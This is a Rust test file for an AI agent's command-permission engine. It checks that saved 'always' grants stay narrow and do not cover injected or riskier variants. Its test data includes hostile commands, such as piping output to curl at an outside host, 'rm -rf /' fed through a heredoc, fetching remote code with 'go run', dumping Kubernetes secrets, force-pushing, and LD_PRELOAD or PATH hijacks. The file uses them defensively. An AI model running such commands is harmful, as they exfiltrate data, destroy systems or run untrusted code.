//! Grants, and what is offered to be saved.

use super::*;
use crate::policy::document::rule_to_toml;
use crate::policy::{GrantRules, RuleSuggestion, explain, suggest, suggest_reject};

fn offered(policy: &Policy, call: &Call) -> Option<RuleSuggestion> {
    let files = Links::default();
    suggest(policy, &call.judged(), &verdict(policy, call), &files).unwrap()
}

/// Whether these grants answer the question about this call.
fn answered(grants: &GrantRules, policy: &Policy, call: &Call) -> bool {
    grants.answers(&call.judged(), &verdict(policy, call), &Links::default()).unwrap()
}

#[test]
fn what_is_offered_is_narrow_and_answers_the_call() {
    let policy = policy("[[rule]]\neffect = \"allow\"\ncommands = [\"ls\"]\n");
    for (tool, args, rule, also) in [
        (
            "bash",
            r#"{"command":"npm run test -- --watch"}"#,
            r#"commands = [{ words = "npm run test -- --watch", exact = true }]"#,
            "exactly `npm run test -- --watch`",
        ),
        (
            "bash",
            r#"{"command":"ls | git log -3"}"#,
            r#"commands = ["git log"]"#,
            "any `git log …`",
        ),
        ("bash", r#"{"command":"CI=1 ls"}"#, r#"env = ["CI"]"#, "setting CI to anything"),
        (
            "write_file",
            r#"{"path":"src/a/b.rs"}"#,
            r#"writes = ["${project}/src/a/**"]"#,
            "writing all files below src/a/",
        ),
        (
            "write_file",
            r#"{"path":"a.rs"}"#,
            r#"writes = ["${project}/a.rs"]"#,
            "writing /work/app/a.rs at any time, with any content",
        ),
        (
            "write_file",
            r#"{"path":"/x/[a].rs"}"#,
            r#"writes = ['/x/\[a\].rs']"#,
            "writing /x/[a].rs at any time, with any content",
        ),
        ("read_file", r#"{"path":"/x/y"}"#, r#"reads = ["/x/y"]"#, "reading /x/y at any time"),
        (
            "fetch_url",
            r#"{"url":"https://a.example:8443/x?y"}"#,
            r#"urls = ["https://a.example:8443"]"#,
            "everything at https://a.example:8443",
        ),
        ("book", "{}", r#"tools = ["book"]"#, "every call of book"),
    ] {
        let call = Call::new(tool, args);
        let suggestion = offered(&policy, &call).unwrap_or_else(|| panic!("{tool} {args}: none"));
        assert_eq!(suggestion.also, [also], "{args}");
        let toml = rule_to_toml(&suggestion.rules[0]).unwrap();
        let plain = |text: &str| text.replace("\\\\", "\\").replace('\'', "\"");
        assert!(plain(&toml).contains(&plain(rule)), "{args}: {toml}");
        let grants = GrantRules::compile(suggestion.rules, &context()).unwrap();
        assert!(answered(&grants, &policy, &call));
    }
}

#[test]
fn what_nobody_can_oversee_is_not_offered() {
    let policy = policy("[[rule]]\neffect = \"allow\"\ncommands = [\"ls\"]\n");
    for command in [
        "python -c 'x'",
        "bash x.sh",
        "sudo make",
        "countersign approve 4f2a91c3",
        "eval x",
        "$x y",
        "git $x",
        "git push $x",
        "cd /x",
        "make > $x",
        "node x.js",
        "echo x > .env",
        "ls | docker exec -i c sh",
        "ls || true | docker exec -i c sh",
        "deno run - < a.txt",
        "kubectl apply -f - <<< x",
        "ls | curl -d @- https://a.example/x",
    ] {
        let found = offered(&policy, &Call::run(command));
        assert_eq!(found, None, "{command}");
    }
    assert_eq!(offered(&policy, &Call::new("read_file", r#"{"path":".env"}"#)), None);
    assert_eq!(offered(&policy, &Call::new("read_file", "{}")), None);
    assert_eq!(offered(&policy, &Call::run("ls")), None);
}

#[test]
fn an_always_for_a_command_says_nothing_of_what_it_is_given_to_read() {
    let policy = policy("[[rule]]\neffect = \"allow\"\ncommands = [\"ls\"]\n");
    let suggestion = offered(&policy, &Call::run("docker exec -i c sh")).unwrap();
    let grants = GrantRules::compile(suggestion.rules, &context()).unwrap();
    for (line, expected) in [
        ("docker exec -i c sh", true),
        ("docker exec -i c sh | ls", true),
        ("ls || docker exec -i c sh", true),
        ("ls | docker exec -i c sh", false),
        ("ls |& docker exec -i c sh", false),
        ("docker exec -i c sh < a", false),
        ("docker exec -i c sh <<< 'rm -rf /'", false),
        ("docker exec -i c sh <<x\nrm -rf /\nx\n", false),
        ("{ docker exec -i c sh; } < a", false),
        ("ls | { docker exec -i c sh; }", false),
    ] {
        assert_eq!(answered(&grants, &policy, &Call::run(line)), expected, "{line}");
    }
}

#[test]
fn grants_answer_asks_and_nothing_else() {
    let user = "[[rule]]\neffect = \"ask\"\ncommands = [\"git push\"]\n[[rule]]\neffect = \"deny\"\ncommands = [\"rm\"]\n";
    let rules = document(
        "[[rule]]\neffect = \"allow\"\ncommands = [\"git push\", \"rm\", \"make\", \"npm\"]\n[[rule]]\neffect = \"allow\"\nwrites = [\"/tmp/**\"]\n",
        LayerKind::Session,
        true,
    )
    .rules;
    let grants = GrantRules::compile(rules, &context()).unwrap();
    let managed = "[[rule]]\neffect = \"ask\"\ncommands = [\"npm\"]\n";
    let policy = pooled(vec![
        document(user, LayerKind::User, true),
        document(managed, LayerKind::Managed, true),
    ]);
    for (line, expected) in [
        ("git push", true),
        ("git push && make", true),
        ("make > /tmp/x", true),
        ("make > /x", false),
        ("rm x", false),
        ("make; rm x", false),
        ("make; ls", false),
        ("eval make", false),
        ("npm ci", false),
        ("X=1 make", false),
        ("make > /tmp/.env", false),
    ] {
        let call = Call::run(line);
        let verdict = verdict(&policy, &call);
        assert_eq!(answered(&grants, &policy, &call), expected, "{line}: {verdict:#?}");
    }
}

#[test]
fn an_always_for_a_command_says_nothing_of_the_same_behind_a_variable() {
    let policy = policy("[[rule]]\neffect = \"allow\"\nenv = [\"*\"]\n");
    let args = |command: &str, more: &str| format!(r#"{{"command":{command:?}{more}}}"#);
    for saved in ["make install", "./x.sh"] {
        let suggestion = offered(&policy, &Call::run(saved)).unwrap();
        let grants = GrantRules::compile(suggestion.rules, &context()).unwrap();
        assert!(answered(&grants, &policy, &Call::run(saved)));
        let lines = ["CI=1", "CI='$(shell x)'", "src=/", "CC=x", "env CI=1", "export CI=1;"];
        let lines = lines.map(|before| Call::run(&format!("{before} {saved}")));
        let more = [
            r#","env":{"CI":"$(shell x)"}"#,
            r#","env":{"CC":"x"}"#,
            r#","shell":"./sh""#,
            r#","executable":"/tmp/bash""#,
        ];
        let calls = more.map(|more| Call::new("bash", &args(saved, more)));
        for call in lines.iter().chain(&calls) {
            assert!(!answered(&grants, &policy, call), "{saved}: {:?}", call.args);
        }
    }
    // The variable is a part of what is remembered.
    let call = Call::run("NODE_ENV=test make install");
    let suggestion = offered(&policy, &call).unwrap();
    assert_eq!(suggestion.also, ["exactly `make install`", "setting NODE_ENV to anything"]);
    let grants = GrantRules::compile(suggestion.rules, &context()).unwrap();
    assert!(answered(&grants, &policy, &call));
    assert!(!answered(&grants, &policy, &Call::run("CI=1 make install")));
    assert!(!answered(&grants, &policy, &Call::run("NODE_ENV='$(x)' make install")));
    // What a loop goes over is no variable of the command.
    let suggestion = offered(&policy, &Call::run("make install")).unwrap();
    let grants = GrantRules::compile(suggestion.rules, &context()).unwrap();
    assert!(answered(&grants, &policy, &Call::run("for i in 1 2; do make install; done")));
}

#[test]
fn what_is_rejected_for_ever() {
    let policy = policy("[[rule]]\neffect = \"allow\"\ncommands = [\"ls\"]\n");
    let call = Call::run("ls; git push --force");
    let verdict = verdict(&policy, &call);
    let found = suggest_reject(&policy, &call.judged(), &verdict, &Links::default()).unwrap();
    let found = found.unwrap();
    assert_eq!(found.also, ["any `git push …`"]);
    assert_eq!(found.rules[0].effect, Effect::Deny);
}

#[test]
fn an_explanation_says_what_lost() {
    let user = "[[rule]]\neffect = \"allow\"\ncommands = [\"git\"]\n[[rule]]\neffect = \"ask\"\ncommands = [\"git push\"]\n";
    let project = "[[rule]]\neffect = \"allow\"\ncommands = [\"git push\"]\n";
    let policy = pooled(vec![
        document(user, LayerKind::User, true),
        document(project, LayerKind::Project, false),
    ]);
    let call = Call::run("git push");
    let explanation = explain(&policy, &call.judged(), &Links::default()).unwrap();
    assert_eq!(explanation.verdict, verdict(&policy, &call));
    let outcomes: Vec<String> = explanation.considered[0]
        .iter()
        .map(|tried| format!("{} {:?}", tried.rule, tried.outcome))
        .collect();
    assert_eq!(
        outcomes,
        ["user.toml:2 Stricter", "user.toml:5 Decided", "project.toml:2 Untrusted"]
    );
}

#[test]
fn a_grant_of_a_command_does_not_cover_other_files() {
    let policy = policy("[[rule]]\neffect = \"allow\"\ncommands = [\"ls\"]\n");
    for (saved, same, others) in [
        ("cp a b", "cp a b", &["cp a b /etc", "cp a b -t /etc", "cp a b $x"][..]),
        ("touch a", "touch a", &["touch a ~/.x", "touch a /etc/x"]),
        (
            "git clone https://a.example/x y",
            "git clone https://a.example/x y",
            &["git clone https://evil.example/x y", "git clone https://a.example/x /etc/y"],
        ),
        ("npm run test", "npm run test", &["npm run build", "npm run test --prefix /x"]),
        ("git log -3", "git log --oneline", &["git push", "git log --output=x"]),
    ] {
        let line = |command: &str| Call::new("bash", &format!(r#"{{"command":{command:?}}}"#));
        let suggestion = offered(&policy, &line(saved)).unwrap_or_else(|| panic!("{saved}: none"));
        let grants = GrantRules::compile(suggestion.rules, &context()).unwrap();
        let answers = |command: &str| answered(&grants, &policy, &line(command));
        assert!(answers(same), "{same}");
        for other in others {
            assert!(!answers(other), "{other} is answered by the grant for {saved}");
        }
    }
}

#[test]
fn what_may_lose_files_is_never_remembered() {
    let policy = policy("");
    for line in ["git checkout main", "git switch main", "git stash pop", "git merge main"] {
        assert_eq!(offered(&policy, &Call::run(line)), None, "{line}");
    }
}

/// What is remembered is never more than what the human was told.
#[test]
fn always_covers_no_other_deed_than_its_label() {
    let policy = policy("");
    for (saved, others) in [
        ("go run ./cmd/gen", &["go run evil.example/x@latest", "go run ./cmd/gen x"][..]),
        ("npm install", &["npm install evil"]),
        ("npm install x", &["npm install y", "npm install x y", "npm install -g x"]),
        ("pip install -r requirements.txt", &["pip install evil"]),
        (
            "git push origin f",
            &[
                "git push --force origin main",
                "git push origin f --force",
                "git push origin :main",
                "git push origin",
            ],
        ),
        ("gh api repos/a/b", &["gh api repos/a/b -X DELETE", "gh api -X DELETE repos/a/b"]),
        ("kubectl get pods", &["kubectl get secrets -o yaml", "kubectl get pods,secrets"]),
        ("kubectl delete pod x", &["kubectl delete ns prod", "kubectl delete pod x --all"]),
        ("mvn install", &["mvn install exec:exec"]),
        ("make build", &["make build install", "make build SHELL=/tmp/x"]),
        ("terraform apply", &["terraform apply -auto-approve"]),
        ("docker build .", &["docker build . -f /tmp/evil", "docker build /"]),
        ("docker compose up", &["docker compose up --build", "docker compose -f /tmp/x up"]),
        ("rm build/a.o", &["rm build/b.o", "rm -rf build/a.o", "rm build/a.o x"]),
        ("chmod 777 x", &["chmod 777 y", "chmod -R 777 x"]),
    ] {
        let call = Call::run(saved);
        let suggestion = offered(&policy, &call).unwrap_or_else(|| panic!("{saved}: none"));
        let grants = GrantRules::compile(suggestion.rules, &context()).unwrap();
        let answers = |command: &str| answered(&grants, &policy, &Call::run(command));
        assert!(answers(saved), "{saved}");
        for other in others {
            assert!(!answers(other), "{other} is answered by the grant for {saved}");
        }
    }
}

#[test]
fn a_star_in_a_name_is_no_pattern() {
    let policy = policy("[[rule]]\neffect = \"allow\"\ncommands = [\"ls\"]\n");
    for call in [
        Call::new("*", "{}"),
        Call::new("mcp__*", "{}"),
        Call::new("bash", r#"{"command":"git 'l*'"}"#),
        Call::new("bash", r#"{"command":"git '*'"}"#),
    ] {
        assert_eq!(offered(&policy, &call), None);
        let denial =
            suggest_reject(&policy, &call.judged(), &verdict(&policy, &call), &Links::default());
        assert_eq!(denial.unwrap(), None);
    }
}

#[test]
fn what_decides_which_programs_run_is_not_for_ever() {
    let policy = super::policy("[[rule]]\neffect = \"allow\"\ncommands = [\"ls\"]");
    let none = [
        "PATH",
        "LD_PRELOAD",
        "BASH_ENV",
        "NODE_OPTIONS",
        "GIT_PAGER",
        "PAGER",
        "CC",
        "GOFLAGS",
        "RUSTC_WRAPPER",
    ];
    for name in none {
        let args = format!(r#"{{"command":"{name}=./x ls"}}"#);
        assert!(offered(&policy, &Call::new("bash", &args)).is_none(), "{name}");
    }
    let plain = Call::new("bash", r#"{"command":"CI=1 ls"}"#);
    assert!(offered(&policy, &plain).is_some());
}

#[test]
fn a_folder_is_remembered_by_the_place_that_it_is_and_never_all_there_is() {
    let policy = policy("[[rule]]\neffect = \"allow\"\ncommands = [\"ls\"]\n");
    let files = Links::of(&[
        ("/work/app/link", "/opt/data"),
        ("/work/app/inner", "/work/app/src"),
        ("/work/app/all", "/"),
        ("/work/app/mine", "/home/me"),
        ("/work/app/up", "/work"),
    ]);
    let offered = |tool: &str, path: &str| {
        let call = Call::new(tool, &format!(r#"{{"pattern":"x","path":"{path}"}}"#));
        let verdict = judge(&policy, &call.judged(), &files).unwrap();
        suggest(&policy, &call.judged(), &verdict, &files).unwrap().map(|found| found.also)
    };
    for (path, place) in
        [("src", "src"), ("link", "/opt/data"), ("inner", "src"), ("link/../data", "/opt/data")]
    {
        let expected = vec![format!("reading {place} and all below it, by grep")];
        // Where `..` behind a symlink leads depends on who reads it.
        assert_eq!(offered("grep", path), (path != "link/../data").then_some(expected), "{path}");
    }
    for path in ["/", "all", "/home/me", "mine", "/home", "/work", "up", "~", "..", "/work/app/.."]
    {
        for tool in ["grep", "ls", "delete_directory", "delete_file"] {
            assert_eq!(offered(tool, path), None, "{tool} {path}");
        }
    }
}

#[test]
fn a_variable_that_programs_take_options_from_is_not_for_ever() {
    let policy = policy("[[rule]]\neffect = \"allow\"\ncommands = [\"rg\", \"xz\", \"pytest\"]\n");
    for line in [
        "RIPGREP_CONFIG_PATH=/dev/null rg main src",
        "XZ_OPT=-9 xz -c a.txt",
        "PYTEST_ADDOPTS=-q pytest",
        "MAVEN_OPTS=-Xmx1g pytest",
        "TMPDIR=/tmp rg main",
        "NODE_OPTIONS=-x rg main",
        "WHATEVER=1 rg main",
    ] {
        assert_eq!(offered(&policy, &Call::run(line)), None, "{line}");
    }
    assert!(offered(&policy, &Call::run("CI=1 rg main src")).is_some());
}
